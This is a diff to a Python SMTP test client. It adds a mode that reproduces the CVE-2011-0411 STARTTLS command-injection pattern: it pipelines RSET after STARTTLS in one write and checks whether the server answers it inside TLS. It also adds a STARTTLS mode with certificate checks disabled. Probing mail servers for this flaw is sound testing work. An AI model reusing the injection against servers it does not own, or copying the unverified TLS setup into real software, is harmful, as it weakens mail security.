@@ -10,6 +10,14 @@ Subcommands (all talk to a real server, Postfix or aiosmtpd):
                    on one connection, then QUIT.
   bdat             raw socket: EHLO, MAIL, RCPT, the message body as two
                    BDAT chunks (RFC 3030 CHUNKING; the second one LAST), QUIT.
+  inject-starttls  the CVE-2011-0411 pattern: raw socket, EHLO, then
+                   "STARTTLS\r\nRSET\r\n" in ONE write (one TCP segment),
+                   wait for the 220, TLS handshake on the same socket
+                   (Python ssl, no certificate check), then EHLO, MAIL,
+                   RCPT, DATA, QUIT inside TLS.  Reports whether the server
+                   answered the pipelined RSET (in clear or inside TLS).
+  starttls         Python smtplib: EHLO, starttls() (no certificate check),
+                   EHLO, one message, QUIT.
 
 Common options: --server ADDR --port N [--bind ADDR] [--tag TEXT]
 Only Debian's /usr/bin/python3 standard library is used.
@@ -17,6 +25,7 @@ Only Debian's /usr/bin/python3 standard library is used.
 import argparse
 import smtplib
 import socket
+import ssl
 import sys
 
 HELO = "client.example.test"
@@ -115,9 +124,100 @@ def bdat(args):
     sock.close()
 
 
+def client_tls_context():
+    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
+    ctx.check_hostname = False
+    ctx.verify_mode = ssl.CERT_NONE
+    return ctx
+
+
+def starttls(args):
+    s = connect_smtplib(args)
+    s.ehlo()
+    code, text = s.starttls(context=client_tls_context())
+    print("STARTTLS ->", code, text.decode(errors="replace"))
+    print("TLS:", s.sock.version(), s.sock.cipher()[0])
+    s.ehlo()
+    s.sendmail(SENDER, [RCPT], message(args.tag))
+    s.quit()
+
+
+def inject_starttls(args):
+    family = socket.AF_INET6 if ":" in args.server else socket.AF_INET
+    sock = socket.socket(family, socket.SOCK_STREAM)
+    if args.bind:
+        sock.bind((args.bind, 0))
+    sock.settimeout(20)
+    sock.connect((args.server, args.port))
+
+    def readreply(f):
+        lines = []
+        while True:
+            line = f.readline()
+            if not line:
+                raise EOFError("server closed connection")
+            lines.append(line.decode().rstrip("\r\n"))
+            if len(line) < 4 or line[3:4] != b"-":
+                break
+        print("S:", " | ".join(lines))
+        return int(lines[-1][:3]), lines
+
+    # Cleartext part: read byte by byte (no read-ahead), so that whatever the
+    # server sends after its 220 stays in the socket for the TLS layer.
+    f = sock.makefile("rb", buffering=0)
+    code, _ = readreply(f)
+    assert code == 220
+    print("C: EHLO", HELO)
+    sock.sendall(("EHLO %s\r\n" % HELO).encode())
+    code, ehlo = readreply(f)
+    if not any(l[4:].upper().startswith("STARTTLS") for l in ehlo):
+        sys.exit("server does not advertise STARTTLS")
+    print("C: STARTTLS + RSET in one write")
+    sock.sendall(b"STARTTLS\r\nRSET\r\n")
+    code, lines = readreply(f)
+    if code != 220:
+        sys.exit("STARTTLS refused: %s" % lines)
+    sock.setblocking(True)
+    sock.settimeout(1.0)
+    try:
+        extra = sock.recv(4096, socket.MSG_PEEK)
+        print("bytes in clear after the 220 (before ClientHello):", repr(extra))
+    except socket.timeout:
+        print("no bytes in clear after the 220")
+    sock.settimeout(20)
+    tls = client_tls_context().wrap_socket(sock, server_hostname=None)
+    print("TLS:", tls.version(), tls.cipher()[0])
+    tf = tls.makefile("rb")
+
+    def cmd(line, expect):
+        print("C:", line)
+        tls.sendall(line.encode() + b"\r\n")
+        code, lines = readreply(tf)
+        if code == 250 and expect != 250 or (line.startswith("EHLO") and len(lines) == 1):
+            # the reply to the injected RSET arriving first
+            print("(server answered the injected RSET inside TLS)")
+            code, lines = readreply(tf)
+        if code != expect:
+            sys.exit("unexpected reply to %s: %s" % (line, lines))
+        return lines
+
+    cmd("EHLO " + HELO, 250)
+    cmd("MAIL FROM:<%s>" % SENDER, 250)
+    cmd("RCPT TO:<%s>" % RCPT, 250)
+    cmd("DATA", 354)
+    print("C: <message>")
+    tls.sendall(message(args.tag).encode() + b".\r\n")
+    code, lines = readreply(tf)
+    if code != 250:
+        sys.exit("message not accepted: %s" % lines)
+    cmd("QUIT", 221)
+    tls.close()
+
+
 def main():
     ap = argparse.ArgumentParser()
-    ap.add_argument("mode", choices=["refuse-starttls", "two-messages", "bdat"])
+    ap.add_argument("mode", choices=["refuse-starttls", "two-messages", "bdat",
+                                     "inject-starttls", "starttls"])
     ap.add_argument("--server", required=True)
     ap.add_argument("--port", type=int, default=25)
     ap.add_argument("--bind")
@@ -125,7 +225,9 @@ def main():
     args = ap.parse_args()
     {"refuse-starttls": refuse_starttls,
      "two-messages": two_messages,
-     "bdat": bdat}[args.mode](args)
+     "bdat": bdat,
+     "inject-starttls": inject_starttls,
+     "starttls": starttls}[args.mode](args)
 
 
 if __name__ == "__main__":
